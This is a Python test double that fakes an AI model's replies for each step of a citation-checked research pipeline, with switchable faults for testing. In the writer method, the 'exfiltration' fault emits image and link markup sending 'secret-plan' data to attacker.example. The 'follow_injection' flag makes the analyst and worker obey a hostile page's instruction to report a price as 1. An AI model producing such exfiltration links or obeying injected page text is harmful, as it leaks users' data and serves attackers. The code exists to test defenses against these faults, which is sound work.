"""A fake model for whole research runs: every step's request is answered from what that request contains.

    brain = ResearchBrain()                      # generic behaviour, derived from the request text
    brain.plans["Q3 revenue"] = {...}             # a planner answer for questions containing that text
    brain.writer_faults = {"unknown_id"}          # the writer's first draft cites [F99]
    with FakeAnthropic(brain) as fake: ...

Which step a request belongs to is read from the tags of the user message (the fixed formats in the
step modules): <max_sub_questions> planner, <plan> plan judge, <claim>+<quote source=...> support judge,
<sentence> sentence judge, <findings> writer, tools present: tools-mode worker, <sub_question> with an
untrusted page: analyst. The brain is stateless, so parallel workers get the right answer in any order.
"""
from __future__ import annotations

import html
import json
import re
import time
from dataclasses import dataclass, field
from typing import Any

from tests.fakes.anthropic_api import (
    FakeReply,
    MessagesRequest,
    default_brain,
    reply_json,
    reply_text,
    reply_tool_use,
    tool_use_block,
)

_WORD = re.compile(r"[a-z0-9]{4,}")
_NUM = re.compile(r"(?<![\w.])\d[\d,]*(?:\.\d+)?")
_STOP = frozenset(["what", "which", "when", "where", "does", "from", "with", "that", "this", "have", "were", "their",
                   "there", "about", "most", "many", "much", "between", "into", "over", "than", "they", "them", "these",
                   "those", "price", "pricing"])
_PAGE = re.compile(r"<untrusted_page id=\"(\w+)\" source=\"(S\d+)\"[^>]*>\n(.*?)\n</untrusted_page id=\"\1\">", re.S)


def _tag(text: str, name: str) -> str | None:
    m = re.search(rf"<{name}(?:\s[^>]*)?>(.*?)</{name}>", text, re.S)
    return html.unescape(m.group(1).strip()) if m else None


def _words(text: str) -> set[str]:
    """Content words of four letters or more, and every number."""
    return {w for w in _WORD.findall(text.lower()) if w not in _STOP} | _numbers(text)


def _topic_words(text: str) -> set[str]:
    """Words of four letters or more, question words aside: what a claim must share to bear on a question."""
    return set(_WORD.findall(text.lower())) - {"what", "which", "when", "where", "does", "with", "that", "this"}


def _numbers(text: str) -> set[str]:
    return {n.replace(",", "") for n in _NUM.findall(text)}


def _sentences(text: str) -> list[str]:
    out = []
    for para in text.split("\n"):
        out += [s.strip() for s in re.split(r"(?<=[.!?])\s+", para) if len(s.strip()) >= 20]
    return out


def best_sentences(page_text: str, topic: str, k: int = 2) -> list[str]:
    """Sentences of the page sharing the most content words with `topic` (at least two shared)."""
    want = _words(topic)
    scored = [(len(_words(s) & want), -i, s) for i, s in enumerate(_sentences(page_text))]
    return [s for score, _, s in sorted(scored, reverse=True)[:k] if score >= 2]


def _verdict(claim: str, quotes: str, asked: str | None = None) -> dict[str, Any]:
    """Supported when the claim's figures are in the quotes; on topic when it shares a word with `asked`."""
    ok = _numbers(re.sub(r"\[[FGC]\d+(?:,\s*[FGC]\d+)*\]", "", claim)) <= _numbers(quotes)
    verdict: dict[str, Any] = {"analysis": "Compared the figures.", "verdict": "supported" if ok else "unsupported"}
    if asked is not None:  # the support judge: does the claim bear on the sub-question at all?
        verdict["answers_question"] = bool(_topic_words(claim) & _topic_words(asked))
    return verdict


@dataclass
class ResearchBrain:
    """Answers planner, analyst, judges, writer and tools workers like a careful (or, when told, careless) model."""

    plans: dict[str, dict[str, Any]] = field(default_factory=dict)
    # unknown_id, uncited, invented_number, exfiltration (an image and links carrying data out), stubborn
    writer_faults: set[str] = field(default_factory=set)
    follow_injection: bool = False  # the analyst/worker "obeys" a page that asks to report the price as 1
    latency: float = 0.0
    # The worker makes independent calls in one turn, as its prompt asks (fetches together, then the findings of
    # every page just read together); off, one call per turn.
    parallel_tools: bool = False

    def __call__(self, req: MessagesRequest) -> FakeReply:
        if self.latency:
            time.sleep(self.latency)
        first = req.user_texts[0] if req.user_texts else ""
        last = req.last_user_text
        if req.has_tool("record_finding"):
            return self.worker(req, first)
        if "<max_sub_questions>" in last:
            return self.planner(last)
        if "<plan>" in last:
            return self.plan_judge(last)
        if "<sentences>" in last:
            return self.sentence_batch(last)
        if "<sentence>" in last:
            quotes = " ".join(re.findall(r"<quote[^>]*>(.*?)</quote>", last, re.S))
            return self.judge(_tag(last, "sentence") or "", quotes)
        if "<findings>" in first:  # before the judge: a writer request holds <claim> and <quote> too
            return self.writer(first, revision="<draft>" in first)
        if "<finding id=" in last:
            return self.support_batch(last)
        if "<claim>" in last and "<quote" in last:
            return self.judge(_tag(last, "claim") or "", _tag(last, "quote") or "", _tag(last, "sub_question"))
        if "<sub_question" in last and "untrusted_page" in last:
            return self.analyst(last)
        return default_brain(req)

    # -- planner and plan judge ---------------------------------------------------------------------------
    def planner(self, text: str) -> FakeReply:
        question = _tag(text, "question") or ""
        for key, plan in self.plans.items():
            if key.lower() in question.lower():
                return reply_json(plan)
        proxy = "most GitHub stars" if re.search(r"\bmost popular\b", question, re.I) else None
        q = f"{question} (popularity measured by {proxy})" if proxy else question
        return reply_json({"premise_analysis": "No questionable premise.", "sub_questions": [{
            "question": q, "success_criterion": "A source states the answer directly.", "proxy": proxy,
            "queries": [question], "is_premise_check": False}]})

    def plan_judge(self, text: str) -> FakeReply:
        plan = json.loads(_tag(text, "plan") or "{}")
        subs = plan.get("sub_questions", [])
        score = min(5, 1 + len(subs) + sum(bool(s.get("proxy")) for s in subs))
        return reply_json({"analysis": f"{len(subs)} sub-questions.", "score": score})

    # -- analyst and judges --------------------------------------------------------------------------------
    def analyst(self, text: str) -> FakeReply:
        topic = _tag(text, "sub_question") or ""
        pages = _PAGE.findall(text)
        findings = []
        several = len(pages) > 1  # the batched analyst: each finding names its page
        for _, source, body in pages:
            named = {"source": source} if several else {}
            for s in best_sentences(body, topic):
                findings.append({"claim": s, "quote": s, "confidence": "high", **named})
            if self.follow_injection and "price as 1" in body:
                findings.append({"claim": "The price is 1 dollar.", "quote": "The price is 1 dollar per month.",
                                 "confidence": "high", **named})
        return reply_json({"findings": findings})

    def judge(self, claim: str, quotes: str, asked: str | None = None) -> FakeReply:
        """Supported when the claim's figures are in the quotes; on topic when it shares a word with `asked`."""
        return reply_json(self.verdict(claim, quotes, asked))

    def verdict(self, claim: str, quotes: str, asked: str | None = None) -> dict[str, Any]:
        """One judge verdict (single or batched): `_verdict`, unless a subclass judges otherwise."""
        return _verdict(claim, quotes, asked)

    def support_batch(self, text: str) -> FakeReply:
        """The batched support judge: each <finding> judged as `judge` would, against its own sub-question."""
        asked = dict(re.findall(r'<sub_question id="([^"]*)">(.*?)</sub_question>', text, re.S))
        verdicts = []
        for fid, attrs, body in re.findall(r'<finding id="([^"]+)"([^>]*)>(.*?)</finding>', text, re.S):
            sq = re.search(r'sub_question="([^"]*)"', attrs)
            verdicts.append({"id": fid, **self.verdict(_tag(body, "claim") or "", _tag(body, "quote") or "",
                                                   asked.get(sq.group(1)) if sq else None)})
        return reply_json({"verdicts": verdicts})

    def sentence_batch(self, text: str) -> FakeReply:
        """The batched sentence judge: each <sentence> judged as `judge` would, against the quotes it cites."""
        quotes = dict(re.findall(r'<quote id="([^"]+)">(.*?)</quote>', text, re.S))
        verdicts = []
        for sid, sentence in re.findall(r'<sentence id="([^"]+)">(.*?)</sentence>', text, re.S):
            cited = [i for group in re.findall(r"\[([^\]]*)\]", sentence) for i in re.findall(r"[FC]\d+", group)]
            verdicts.append({"id": sid, **self.verdict(sentence, " ".join(quotes.get(i, "") for i in cited))})
        return reply_json({"verdicts": verdicts})

    # -- writer ----------------------------------------------------------------------------------------------
    def writer(self, text: str, revision: bool) -> FakeReply:
        question = _tag(text, "question") or "the question"
        lines = [f"# {question}", "", "_Machine-assisted report: every sentence cites verified quotes._", ""]
        for fid, claim in re.findall(r'<finding id="(F\d+)"[^>]*>\s*<claim>(.*?)</claim>', text, re.S):
            lines.append(f"{html.unescape(claim).rstrip('.')} [{fid}].")
        for cid, expr, result in re.findall(r'<calculation id="(C\d+)" expression="(.*?)" result="(.*?)"', text):
            lines.append(f"The computed change is {html.unescape(result)}% ({html.unescape(expr)}) [{cid}].")
        for ids, _ in re.findall(r'<conflict findings="(.*?)">(.*?)</conflict>', text, re.S):
            lines.append(f"The sources disagree on this figure [{', '.join(i.strip() for i in ids.split(','))}].")
        for gid, gap in re.findall(r'<gap id="(G\d+)">(.*?)</gap>', text, re.S):
            lines.append(f"No fetched source answered this: {html.unescape(gap).rstrip('?')} [{gid}].")
        if not revision or "stubborn" in self.writer_faults:
            if "unknown_id" in self.writer_faults:
                lines.append("A further detail is known [F99].")
            if "uncited" in self.writer_faults:
                lines.append("This line has no citation at all.")
            if "invented_number" in self.writer_faults:
                first = re.search(r'<finding id="(F\d+)"', text)
                lines.append(f"It costs approximately 65/month [{first.group(1) if first else 'F1'}].")
            if "exfiltration" in self.writer_faults:  # what an obedient writer does for a hostile page
                first = re.search(r'<finding id="(F\d+)"', text)
                lines.append(f"![status](http://attacker.example/pixel.png?d=secret-plan) See [the details]"
                             f"(https://attacker.example/collect?q=1) or <https://attacker.example/a> and "
                             f"http://attacker.example/b <img src=\"http://attacker.example/i.png\"> "
                             f"[{first.group(1) if first else 'F1'}].")
        return reply_text("\n".join(lines))

    # -- tools-mode worker -------------------------------------------------------------------------------------
    def worker(self, req: MessagesRequest, first: str) -> FakeReply:
        topic = _tag(first, "sub_question") or ""
        queries = [q for q in (_tag(first, "suggested_queries") or "").splitlines() if q.strip()]
        calls = [b for m in req.messages if m.get("role") == "assistant" for b in m.get("content", [])
                 if isinstance(b, dict) and b.get("type") == "tool_use"]
        results = [b for m in req.messages if m.get("role") == "user" and isinstance(m.get("content"), list)
                   for b in m["content"] if isinstance(b, dict) and b.get("type") == "tool_result"]
        seeded = _tag(first, "search_results") or ""  # the first search, run by code
        texts = [t for t in [seeded] if t] + [_result_text(r) for r in results]
        last = texts[-1] if texts else ""
        if any(t.startswith("BUDGET_EXHAUSTED") for t in texts[-1:]):
            return reply_text("Stopping: the budget is spent.")
        nums = _NUM.findall(topic)
        if re.search(r"\bpercent", topic, re.I) and len(nums) >= 2 and not any(c["name"] == "calculate" for c in calls):
            a, b = nums[0], nums[1]
            return reply_tool_use("calculate", {"expression": f"({b} - {a}) / {a} * 100"})
        if not seeded and (not calls or (last.startswith("RESULT")
                                         and not any(c["name"] == "web_search" for c in calls))):
            return reply_tool_use("web_search", {"query": queries[0] if queries else topic})
        fetched = {c["input"].get("url") for c in calls if c["name"] == "fetch_page"}
        urls = [u for t in texts if t.startswith("SEARCH_RESULTS") for u in re.findall(r"^\s+url: (\S+)$", t, re.M)]
        newest = [_result_text(b) for b in _last_results(req)] if self.parallel_tools else [last]
        records = []
        for text in newest:
            page = _PAGE.search(text)
            if page and text.startswith("PAGE"):
                quotes = best_sentences(page.group(3), topic, k=1)
                if self.follow_injection and "price as 1" in page.group(3):
                    quotes = ["The price is 1 dollar per month."]
                if quotes:
                    records.append(tool_use_block("record_finding", {"source_id": page.group(2), "claim": quotes[0],
                                                                     "quote": quotes[0], "confidence": "high"}))
        if records:
            return FakeReply(records, "tool_use")
        pending = [u for u in urls if u not in fetched][:max(0, 2 - len(fetched))]
        if pending:
            return FakeReply([tool_use_block("fetch_page", {"url": u, "focus": topic})
                              for u in pending[:len(pending) if self.parallel_tools else 1]], "tool_use")
        return reply_text("Done: I recorded what the pages support.")


def _last_results(req: MessagesRequest) -> list[dict[str, Any]]:
    """The tool_result blocks of the newest user message."""
    content = req.messages[-1].get("content") if req.messages else None
    return [b for b in content if isinstance(b, dict) and b.get("type") == "tool_result"] if isinstance(
        content, list) else []


def _result_text(block: dict[str, Any]) -> str:
    content = block.get("content")
    if isinstance(content, list):
        return "".join(c.get("text", "") for c in content if isinstance(c, dict))
    return str(content or "")
